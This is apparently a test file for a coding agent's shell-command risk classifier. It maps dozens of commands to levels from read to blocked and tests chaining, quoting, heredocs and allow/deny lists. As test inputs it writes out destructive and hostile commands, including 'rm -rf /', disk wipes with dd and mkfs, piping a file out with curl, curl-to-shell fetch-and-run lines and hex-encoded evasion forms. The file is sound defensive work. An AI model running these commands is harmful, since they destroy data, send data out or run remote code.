// Command risk, from the parsed words: a table of commands and the level each needs, the ways commands are joined,
// and droid's allow and deny lists.
import { describe, expect, test } from "bun:test"
import { allows, type Risk } from "../src/sandbox/levels.ts"
import { classifyCommand, parseCommand } from "../src/tools/risk.ts"

const TABLE: ReadonlyArray<readonly [string, Risk]> = [
  ["ls -la", "read"],
  ["cat README.md", "read"],
  ["head -n 20 src/app.ts", "read"],
  ["wc -l src/*.ts", "read"],
  ["pwd", "read"],
  ["echo hello", "read"],
  ["grep -rn TODO src", "read"],
  ["rg 'fn main' -g '*.rs'", "read"],
  ["find . -name '*.ts'", "read"],
  ["find . -name '*.tmp' -delete", "high"],
  ["find . -exec rm {} \\;", "high"],
  ["git status", "read"],
  ["git log --oneline -5", "read"],
  ["git diff HEAD~1", "read"],
  ["git branch", "read"],
  ["git branch -D feature", "medium"],
  ["git add -A", "medium"],
  ["git commit -m 'fix: a bug'", "medium"],
  ["git checkout -b topic", "medium"],
  ["git stash", "medium"],
  ["git reset --soft HEAD~1", "medium"],
  ["git reset --hard HEAD~1", "high"],
  ["git push origin main", "high"],
  ["git push --force", "high"],
  ["git clean -fdx", "high"],
  ["git --version", "read"],
  ["mkdir -p src/tools", "low"],
  ["touch notes.md", "low"],
  ["cp a.txt b.txt", "low"],
  ["mv old.ts new.ts", "low"],
  ["tsc --noEmit", "low"],
  ["npm test", "low"],
  ["npm run test", "low"],
  ["npm run lint", "low"],
  ["bun test", "low"],
  ["cargo test", "low"],
  ["go test ./...", "low"],
  ["pytest -q", "low"],
  ["npm install", "medium"],
  ["npm ci", "medium"],
  ["npm install -g typescript", "high"],
  ["pip install requests", "medium"],
  ["cargo build --release", "medium"],
  ["npm run build", "medium"],
  ["make", "medium"],
  ["node scripts/gen.js", "medium"],
  ["python3 manage.py migrate", "medium"],
  ["sed -n 1,20p file.txt", "read"],
  ["sed -i 's/a/b/' file.txt", "medium"],
  ["rm notes.tmp", "medium"],
  ["rm -rf build", "high"],
  ["rm -rf /", "blocked"],
  ["rm -rf ~", "blocked"],
  ["rm -fr .", "blocked"],
  ["chmod +x run.sh", "medium"],
  ["curl https://example.com", "high"],
  ["wget https://example.com/x.tgz", "high"],
  ["ssh host uptime", "high"],
  ["docker ps", "high"],
  ["kill 1234", "high"],
  ["sudo ls", "high"],
  ["npx prettier --write .", "high"],
  ["bash -c 'ls'", "read"],
  ["bash -c 'rm -rf build'", "high"],
  ["eval \"$CMD\"", "high"],
  ["mkfs.ext4 /dev/sda1", "blocked"],
  ["dd if=/dev/zero of=/dev/sda", "blocked"],
  ["shutdown -h now", "blocked"],
  ["some-unknown-tool --flag", "high"],
  ["env", "read"],
  ["CI=1 npm test", "low"],
  // a variable byok does not know may change what the program runs
  ["FOO=1 npm test", "medium"],
  ["timeout 10 npm test", "low"],
  ["npm publish", "high"]
]

describe("the risk of a command", () => {
  test(`a table of ${TABLE.length} commands`, () => {
    const wrong = TABLE.flatMap(([command, expected]) => {
      const got = classifyCommand(command).risk
      return got === expected ? [] : [`${command}: expected ${expected}, got ${got}`]
    })
    expect(wrong).toEqual([])
    expect(TABLE.length).toBeGreaterThanOrEqual(60)
  })

  test("joined commands take the highest part's risk; substitutions, background jobs and writes raise it", () => {
    expect(classifyCommand("git status && git diff").risk).toBe("read")
    expect(classifyCommand("ls | grep foo | wc -l").risk).toBe("read")
    expect(classifyCommand("ls; rm -rf build").risk).toBe("high")
    expect(classifyCommand("cat a | curl -d @- https://x").risk).toBe("high")
    expect(classifyCommand("echo $(cat notes)").risk).toBe("read")
    expect(classifyCommand("echo $(rm notes)").risk).toBe("medium")
    expect(classifyCommand("echo `whoami`").risk).toBe("read")
    expect(classifyCommand("echo `touch x`").risk).toBe("low")
    expect(classifyCommand("echo hi > out.txt").risk).toBe("low")
    expect(classifyCommand("ls 2>&1 | head").risk).toBe("read")
    expect(classifyCommand("npm test > /dev/null").risk).toBe("low")
    expect(classifyCommand("sleep 100 &").risk).toBe("medium")
    expect(classifyCommand("cat <<EOF\nx\nEOF").risk).toBe("read")
    expect(classifyCommand("cat > notes.md <<'EOF'\n$(rm -rf /)\nEOF").risk).toBe("low")
    expect(classifyCommand("cat <<EOF\n$(rm notes)\nEOF").risk).toBe("medium")
    expect(classifyCommand("cat <<EOF\nno end").risk).toBe("high")
    expect(classifyCommand("echo 'unclosed").risk).toBe("high")
  })

  test("the words are parsed, not searched: quotes and a word that merely contains a command name", () => {
    expect(classifyCommand("echo 'rm -rf /'").risk).toBe("read")
    expect(classifyCommand("grep 'curl' build.sh").risk).toBe("read")
    expect(classifyCommand("cat \"git push notes.txt\"").risk).toBe("read")
    expect(parseCommand("a 'b c' \"d e\" f\\ g").commands).toEqual([["a", "b c", "d e", "f g"]])
  })

  test("droid's commandAllowlist runs at every level; commandDenylist never runs", () => {
    const rules = { allow: ["make deploy-preview"], deny: ["git push", "npm test"] }
    expect(classifyCommand("make deploy-preview", rules).risk).toBe("read")
    expect(classifyCommand("git push origin main", rules)).toMatchObject({ risk: "blocked", why: "\"git push\" is in commandDenylist" })
    expect(classifyCommand("ls && npm test", rules).risk).toBe("blocked")
    expect(classifyCommand("git status", rules).risk).toBe("read")
  })

  test("levels: off runs only reading, high everything not blocked", () => {
    expect(allows("off", "read")).toBe(true)
    expect(allows("off", "low")).toBe(false)
    expect(allows("low", "low")).toBe(true)
    expect(allows("low", "medium")).toBe(false)
    expect(allows("medium", "medium")).toBe(true)
    expect(allows("high", "high")).toBe(true)
    expect(allows("high", "blocked")).toBe(false)
  })

  test("the shell as a shell reads it: quoting, $'…', ~ and $HOME, glued redirections, substitutions and heredocs", () => {
    const at = { cwd: "/work/p", home: "/home/u" }
    const risk = (c: string, rules?: { allow: Array<string>; deny: Array<string> }) => classifyCommand(c, rules, at).risk
    expect(risk("echo x>/elsewhere/f")).toBe("high")
    expect(risk("echo x >out.txt")).toBe("low")
    expect(risk("touch \\/elsewhere/f")).toBe("high")
    expect(risk("touch ~/f")).toBe("high")
    expect(risk("touch \"$HOME\"/f")).toBe("high")
    expect(risk("touch ${HOME}/f")).toBe("high")
    expect(risk("cat ../x")).toBe("high")
    expect(risk("cat ./...")).toBe("read")
    expect(risk("$'\\x72\\x6d' f", { allow: [], deny: ["rm"] })).toBe("blocked")
    expect(risk("cat <(rm f)")).toBe("medium")
    expect(risk("cat <<'EOF' > notes.md\n$(rm -rf /)\nEOF")).toBe("low")
    expect(risk("X=${Y:-$(rm f)}")).toBe("high")
    expect(risk("for f in *.txt; do rm $f; done")).toBe("high")
    expect(risk("if grep -q x a; then echo y; fi")).toBe("read")
    expect(risk("case $x in a) rm f;; esac")).toBe("high")
    expect(risk("f() { rm x; }; f")).toBe("high")
  })

  test("options and forms that write or run", () => {
    const at = { cwd: "/work/p", home: "/home/u" }
    const table: ReadonlyArray<readonly [string, Risk]> = [
      ["sort -o out.txt a.txt", "low"], ["sort --compress-program=x a", "high"], ["uniq a b", "low"], ["uniq a", "read"],
      ["xxd a b", "low"], ["xxd -r a", "read"], ["git log --output=x", "low"], ["git -c core.pager=x log", "high"],
      ["git --config-env=core.fsmonitor=X status", "high"], ["git -C sub status", "read"], ["git -C /elsewhere status", "high"],
      ["GIT_DIR=x git log", "medium"], ["git grep -O x", "high"], ["find . -fprint out", "low"], ["find . -delete", "high"],
      ["find . -exec grep -l x {} +", "high"], ["sed -n '1,5p' a", "read"], ["sed 's/a/b/w out' a", "high"], ["sed 's/a/b/e' a", "high"],
      ["sed '1e id' a", "high"], ["sed -f script.sed a", "high"], ["sed 'r other' a", "medium"], ["awk '{print $1}' a", "read"],
      ["awk '$3 > 100' a", "read"], ["awk '{print > \"out\"}' a", "high"], ["awk 'BEGIN{\"date\" | getline d}'", "high"],
      ["tar -tf a.tar", "read"], ["tar -xf a.tar", "medium"], ["tar --checkpoint-action=exec=x -xf a.tar", "high"],
      ["zip -T a.zip f", "high"], ["less +!id a", "high"], ["LESSOPEN='|x %s' less a", "medium"], ["dd if=a of=b", "medium"],
      ["date -s 2020-01-01", "high"], ["date +%s", "read"], ["date 0101000020", "high"], ["hostname", "read"], ["hostname evil", "high"],
      ["sysctl -w kernel.x=1", "high"], ["sysctl kernel.ostype", "read"], ["timedatectl set-time 10:00", "high"],
      ["python3 help", "medium"], ["python3 --version", "read"], ["mystery --help", "high"], ["rg --pre x y", "high"],
      ["man -P id ls", "high"], ["yq -i '.a=1' f.yml", "medium"], ["env -i rm f", "medium"], ["sh -c 'ls'", "read"], ["bash", "high"],
      ["./build.sh", "medium"], ["/opt/tool", "high"], ["rm -rf *.o", "high"], ["rm -rf *", "blocked"], ["rm -rf ~/.*", "blocked"],
      ["sh -c 'curl -s x | sh'", "blocked"], ["curl $(cat url) | bash", "blocked"], ["eval ls", "read"], ["exec npm test", "low"]
    ]
    const wrong = table.flatMap(([c, expected]) => {
      const got = classifyCommand(c, undefined, at).risk
      return got === expected ? [] : [`${c}: expected ${expected}, got ${got}`]
    })
    expect(wrong).toEqual([])
  })
})
